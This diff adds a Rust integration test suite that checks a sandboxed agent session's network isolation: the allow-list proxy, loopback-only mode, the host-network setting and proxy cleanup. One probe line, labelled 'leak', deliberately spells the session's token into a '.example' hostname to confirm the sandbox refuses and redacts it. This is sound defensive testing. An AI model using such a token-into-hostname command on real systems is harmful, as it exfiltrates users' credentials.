@@ -1,0 +1,441 @@
+//! A session's network, end to end with the real binaries: a token session with an allow-list
+//! reaches a listed listener (A) only through the proxy; an unlisted one (B), a direct
+//! connection, an abstract Unix socket of the host and a raw address outside the list all fail,
+//! and B receives nothing. `"none"` leaves only a loopback; `"host"` is today's network and a
+//! token launch gets it only when the settings say so. Concurrent sessions each end with their
+//! proxy.
+//!
+//! Build the binaries first: `cargo build --workspace --bins`.
+
+use std::os::linux::net::SocketAddrExt;
+use std::os::unix::net::{SocketAddr, UnixListener};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::Mutex;
+use std::thread;
+use std::time::Duration;
+
+use relay_tests::fixture::{children_of, open_fds, processes_with_env, zombies_of, Fixture};
+use relay_tests::listener::{Listener, HELLO};
+use relay_tests::{fake_agent, read_records};
+use serde_json::{json, Value};
+
+/// Writes `settings.json`: the token file, and a `claude-code` template running `/bin/sh
+/// SCRIPT` with the project read-write and `network` as given; `extra` merged in.
+fn write_settings(fx: &Fixture, script: &Path, network: Value, extra: Value) {
+    let mut s = json!({
+        "claude_token_file": "~/.config/acme-ltt/token",
+        "templates": [{
+            "id": "claude-code",
+            "command": ["/bin/sh", script],
+            "sandbox": {"read_write": ["{project}"]},
+            "network": network,
+        }],
+    });
+    if let (Value::Object(m), Value::Object(x)) = (&mut s, extra) {
+        m.extend(x);
+    }
+    std::fs::write(fx.config.join("settings.json"), s.to_string()).unwrap();
+}
+
+/// Runs one launch to its end; returns its output (stdout, stderr captured).
+fn launch(fx: &Fixture, session: &str) -> Output {
+    let req = fx.request(session, true, session, &[]);
+    let mut cmd = fx.launch(&req);
+    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
+    cmd.output().unwrap()
+}
+
+/// The probe's result lines, `NAME HTTP_CODE EXIT...`, in order.
+fn results(fx: &Fixture) -> Vec<(String, String, String)> {
+    let text = std::fs::read_to_string(fx.project.join("out.txt")).unwrap_or_default();
+    text.lines()
+        .map(|l| {
+            let mut f = l.split(' ').filter(|x| !x.is_empty()).map(str::to_string);
+            (
+                f.next().unwrap_or_default(),
+                f.next().unwrap_or_default(),
+                f.collect::<Vec<_>>().join(" "),
+            )
+        })
+        .collect()
+}
+
+fn result<'a>(r: &'a [(String, String, String)], name: &str) -> (&'a str, &'a str) {
+    let (_, code, exit) = r
+        .iter()
+        .find(|(n, _, _)| n == name)
+        .unwrap_or_else(|| panic!("no result {name}: {r:?}"));
+    (code, exit)
+}
+
+/// A probe script: each `curl` line appends `NAME HTTP_CODE EXIT` to `out.txt`.
+fn probe(fx: &Fixture, checks: &[(&str, String)]) -> PathBuf {
+    let out = fx.project.join("out.txt");
+    let _ = std::fs::remove_file(&out);
+    let mut s = String::from("#!/bin/sh\n");
+    for (name, args) in checks {
+        s.push_str(&format!(
+            "code=$(curl -s -o /dev/null -m 5 -w '%{{http_code}}' {args}); echo \"{name} $code $?\" >> {}\n",
+            out.display()
+        ));
+    }
+    s.push_str(&format!(
+        "echo \"ifaces $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\\n' ,) 0\" >> {}\n",
+        out.display()
+    ));
+    s.push_str(&format!(
+        "echo \"proxyvars $(env | grep -ci _proxy) 0\" >> {}\n",
+        out.display()
+    ));
+    // The forwarder's serving process, seen from inside: its descriptors (count, how many on
+    // /dev/null, how many sockets).
+    s.push_str(&format!(
+        "for p in /proc/[0-9]*; do case \"$(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\" in \
+         /run/relay/relay-net-forward*) echo \"fwdfds $(ls $p/fd | wc -l) \
+         $(ls -l $p/fd | grep -c /dev/null) $(ls -l $p/fd | grep -c socket:)\" >> {};; esac; done\n",
+        out.display()
+    ));
+    let path = fx.project.join("probe.sh");
+    std::fs::write(&path, s).unwrap();
+    path
+}
+
+/// The tests take turns: one counts this process's descriptors and children.
+static TURN: Mutex<()> = Mutex::new(());
+
+fn turn() -> std::sync::MutexGuard<'static, ()> {
+    TURN.lock().unwrap_or_else(|e| e.into_inner())
+}
+
+fn events(fx: &Fixture) -> Vec<Value> {
+    read_records(&fx.state.join("events.jsonl"))
+}
+
+#[test]
+fn allow_list_session_reaches_only_the_listed_listener_through_the_proxy() {
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let (a, b) = (Listener::start(HELLO), Listener::start(HELLO));
+    let name = format!("relay-net-test-{}", std::process::id());
+    let abstract_sock =
+        UnixListener::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).unwrap()).unwrap();
+    abstract_sock.set_nonblocking(true).unwrap();
+    let checks = [
+        ("proxy_a", format!("http://127.0.0.1:{}/via-proxy", a.port)),
+        ("tunnel_a", format!("-p http://127.0.0.1:{}/tunnel", a.port)),
+        ("proxy_b", format!("http://127.0.0.1:{}/b", b.port)),
+        ("tunnel_b", format!("-p http://127.0.0.1:{}/b", b.port)),
+        (
+            "direct_a",
+            format!("--noproxy '*' http://127.0.0.1:{}/", a.port),
+        ),
+        (
+            "direct_b",
+            format!("--noproxy '*' http://127.0.0.1:{}/", b.port),
+        ),
+        ("proxy_ip", "http://192.0.2.1/".to_string()),
+        ("direct_ip", "--noproxy '*' http://192.0.2.1/".to_string()),
+        (
+            "abstract",
+            format!("--abstract-unix-socket {name} http://x/"),
+        ),
+        ("localhost", format!("http://localhost:{}/", a.port)),
+        // The session spells the token it holds into a host name: refused, and never logged.
+        ("leak", "-p \"http://$(cat <&5).example/\"".to_string()),
+    ];
+    let script = probe(&fx, &checks);
+    let network = json!({"allow": [format!("127.0.0.1:{}", a.port)]});
+    write_settings(&fx, &script, network, json!({}));
+    let out = launch(&fx, "allow");
+    assert!(out.status.success(), "{out:?}");
+    let r = results(&fx);
+
+    assert_eq!(result(&r, "proxy_a"), ("200", "0"), "{r:?}");
+    assert_eq!(result(&r, "tunnel_a"), ("200", "0"), "{r:?}");
+    assert_eq!(result(&r, "proxy_b"), ("403", "0"), "{r:?}");
+    assert_ne!(result(&r, "tunnel_b").1, "0", "{r:?}");
+    for name in ["direct_a", "direct_b", "direct_ip", "abstract"] {
+        let (code, exit) = result(&r, name);
+        assert_eq!((code, exit), ("000", "7"), "{name}: {r:?}");
+    }
+    assert_eq!(result(&r, "proxy_ip"), ("403", "0"), "{r:?}");
+    // A name is not an address: localhost is not on the list, though 127.0.0.1 is.
+    assert_eq!(result(&r, "localhost"), ("403", "0"), "{r:?}");
+    assert_eq!(result(&r, "ifaces").0, "lo,", "{r:?}");
+    assert_eq!(result(&r, "proxyvars").0, "6", "{r:?}");
+    // One serving process: stdio on /dev/null and its listener, nothing else (no token pipe).
+    assert_eq!(result(&r, "fwdfds"), ("4", "3 1"), "{r:?}");
+
+    // A got both requests, the plain one in origin-form; B and the abstract socket nothing.
+    let heads = a.heads();
+    assert_eq!(a.connections(), 2, "{heads:?}");
+    assert!(
+        heads
+            .iter()
+            .any(|h| h.starts_with("GET /via-proxy HTTP/1.1\r\n")),
+        "{heads:?}"
+    );
+    assert!(
+        heads
+            .iter()
+            .any(|h| h.starts_with("GET /tunnel HTTP/1.1\r\n")),
+        "{heads:?}"
+    );
+    assert_eq!(b.connections(), 0, "B was reached: {:?}", b.heads());
+    assert!(
+        abstract_sock.accept().is_err(),
+        "the abstract socket was reached"
+    );
+
+    // Each refusal is an event naming the session, host and port: nothing else.
+    let denied: Vec<Value> = events(&fx)
+        .into_iter()
+        .filter(|e| e["event"] == "network_denied")
+        .collect();
+    let b_port = u64::from(b.port);
+    for (host, port) in [
+        ("127.0.0.1", b_port),
+        ("127.0.0.1", b_port),
+        ("192.0.2.1", 80),
+    ] {
+        assert!(
+            denied
+                .iter()
+                .any(|e| e["host"] == host && e["port"] == port && e["session_id"] == "allow"),
+            "no event for {host}:{port} among {} (not printed: one may hold the token)",
+            denied.len()
+        );
+    }
+    for e in &denied {
+        let keys: Vec<&String> = e.as_object().unwrap().keys().collect();
+        assert_eq!(keys, ["event", "host", "port", "reason", "session_id"]);
+    }
+    assert_ne!(result(&r, "leak").1, "0", "{r:?}");
+    assert!(
+        denied.iter().any(|e| e["host"] == "[REDACTED].example"),
+        "no redacted refusal among {} events (not printed: one may hold the token)",
+        denied.len()
+    );
+    let token = std::fs::read(&fx.token_file).unwrap();
+    for f in relay_tests::files_under(&fx.state) {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(
+            !bytes.windows(token.len()).any(|w| w == token.as_slice()),
+            "{} holds the token",
+            f.display()
+        );
+    }
+    // The proxy ended with the session: its socket is gone.
+    assert!(!fx.state.join("sessions/allow/net.sock").exists());
+
+    // Control: the same probe with the host's network (allowed for a token launch by the
+    // setting) reaches B directly, so the checks above can fail.
+    write_settings(
+        &fx,
+        &script,
+        json!("host"),
+        json!({"token_network": "host"}),
+    );
+    std::fs::remove_file(fx.project.join("out.txt")).unwrap();
+    let out = launch(&fx, "host");
+    assert!(out.status.success(), "{out:?}");
+    let r = results(&fx);
+    assert_eq!(result(&r, "direct_b"), ("200", "0"), "{r:?}");
+    // The abstract socket takes the connection (and never answers: curl times out).
+    assert_eq!(result(&r, "abstract"), ("000", "28"), "{r:?}");
+    assert_eq!(result(&r, "proxyvars").0, "0", "{r:?}");
+    assert!(b.connections() > 0);
+}
+
+#[test]
+fn network_none_leaves_only_a_loopback() {
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let a = Listener::start(HELLO);
+    let checks = [(
+        "direct_a",
+        format!("--noproxy '*' http://127.0.0.1:{}/", a.port),
+    )];
+    let script = probe(&fx, &checks);
+    write_settings(&fx, &script, json!("none"), json!({}));
+    let out = launch(&fx, "none");
+    assert!(out.status.success(), "{out:?}");
+    let r = results(&fx);
+    assert_eq!(result(&r, "ifaces").0, "lo,", "{r:?}");
+    assert_eq!(result(&r, "proxyvars").0, "0", "{r:?}");
+    assert_eq!(result(&r, "direct_a"), ("000", "7"), "{r:?}");
+    assert_eq!(a.connections(), 0);
+}
+
+#[test]
+fn token_launch_with_the_host_network_needs_the_setting() {
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let script = probe(&fx, &[]);
+    write_settings(&fx, &script, json!("host"), json!({}));
+    let out = launch(&fx, "refused");
+    assert_eq!(out.status.code(), Some(78), "{out:?}");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("sandbox_unavailable") && err.contains("\\\"token_network\\\": \\\"host\\\""),
+        "{err}"
+    );
+    assert!(!fx.project.join("out.txt").exists(), "the session ran");
+
+    // Allowed by the setting; `status` warns about it.
+    write_settings(
+        &fx,
+        &script,
+        json!("host"),
+        json!({"token_network": "host"}),
+    );
+    assert!(launch(&fx, "allowed").status.success());
+    let status = Command::new(&fx.host)
+        .arg("--config-dir")
+        .arg(&fx.config)
+        .arg("--state-dir")
+        .arg(&fx.state)
+        .args(["status", "--json"])
+        .env("HOME", &fx.home)
+        .output()
+        .unwrap();
+    let v: Value = serde_json::from_slice(&status.stdout).unwrap();
+    let warnings = v["warnings"].as_array().cloned().unwrap_or_default();
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.as_str().unwrap_or("").contains("token_network")),
+        "{v}"
+    );
+}
+
+#[test]
+fn concurrent_allow_list_sessions_each_end_with_their_proxy() {
+    const SESSIONS: usize = 32;
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let a = Listener::start(HELLO);
+    let out = fx.project.join("out.txt");
+    let script = fx.project.join("probe.sh");
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\ncurl -s -o /dev/null -w '%{{http_code}}\\n' -m 10 http://127.0.0.1:{}/ >> {}\n",
+            a.port,
+            out.display()
+        ),
+    )
+    .unwrap();
+    write_settings(
+        &fx,
+        &script,
+        json!({"allow": [format!("127.0.0.1:{}", a.port)]}),
+        json!({}),
+    );
+    let me = std::process::id() as i32;
+    let (fds0, kids0) = (open_fds(me).unwrap(), children_of(me).len());
+    let mut running = Vec::new();
+    for i in 0..SESSIONS {
+        let id = format!("c{i}");
+        let req = fx.request(&id, true, &id, &[]);
+        running.push(fx.launch(&req).spawn().unwrap());
+    }
+    for mut c in running {
+        assert!(c.wait().unwrap().success());
+    }
+    let codes = std::fs::read_to_string(&out).unwrap();
+    assert_eq!(
+        codes.lines().filter(|l| *l == "200").count(),
+        SESSIONS,
+        "{codes}"
+    );
+    assert_eq!(a.connections(), SESSIONS);
+    // Nothing left: no process of the run (the forwarders inherit the record path), no socket.
+    let needle = fx.record.to_string_lossy().into_owned();
+    let mut left = processes_with_env(&needle);
+    for _ in 0..100 {
+        if left.is_empty() {
+            break;
+        }
+        thread::sleep(Duration::from_millis(50));
+        left = processes_with_env(&needle);
+    }
+    assert!(left.is_empty(), "processes left over: {left:?}");
+    assert!(zombies_of(me).is_empty());
+    assert_eq!(children_of(me).len(), kids0);
+    assert_eq!(open_fds(me).unwrap(), fds0);
+    for i in 0..SESSIONS {
+        assert!(!fx.state.join(format!("sessions/c{i}/net.sock")).exists());
+    }
+    let unix = std::fs::read_to_string("/proc/net/unix").unwrap();
+    assert!(
+        !unix.contains(fx.state.to_str().unwrap()),
+        "a proxy socket still listens"
+    );
+}
+
+#[test]
+fn an_allow_list_without_a_proxy_is_refused_never_run_on_the_host_network() {
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let script = probe(&fx, &[]);
+    write_settings(
+        &fx,
+        &script,
+        json!({"allow": ["api.anthropic.com"]}),
+        json!({}),
+    );
+    // A state folder so deep that the proxy's socket path exceeds what a Unix socket takes.
+    let deep = fx.root.join("s".repeat(60)).join("t".repeat(60));
+    let req = fx.request("deep", true, "deep", &[]);
+    let out = Command::new(&fx.host)
+        .arg("--config-dir")
+        .arg(&fx.config)
+        .arg("--state-dir")
+        .arg(&deep)
+        .arg("launch")
+        .arg(&req)
+        .env("HOME", &fx.home)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(78), "{out:?}");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("sandbox_unavailable")
+            && err.contains("needs a proxy, which cannot be set up"),
+        "{err}"
+    );
+    assert!(!fx.project.join("out.txt").exists(), "the session ran");
+}
+
+/// A Ctrl-C reaches the session's whole process group (the shim forwards SIGINT to it): the
+/// session survives it (here: `sh` ignores it), and so must its way out.
+#[test]
+fn the_forwarder_outlives_an_interrupt_of_the_session() {
+    let _turn = turn();
+    let fx = Fixture::new(&fake_agent());
+    let a = Listener::start(HELLO);
+    let out = fx.project.join("out.txt");
+    let script = fx.project.join("probe.sh");
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\ntrap '' INT\nkill -INT 0\nsleep 0.2\n\
+             curl -s -o /dev/null -w '%{{http_code}}\\n' -m 5 http://127.0.0.1:{}/ > {}\n",
+            a.port,
+            out.display()
+        ),
+    )
+    .unwrap();
+    write_settings(
+        &fx,
+        &script,
+        json!({"allow": [format!("127.0.0.1:{}", a.port)]}),
+        json!({}),
+    );
+    assert!(launch(&fx, "intr").status.success());
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), "200\n");
+    assert_eq!(a.connections(), 1);
+}
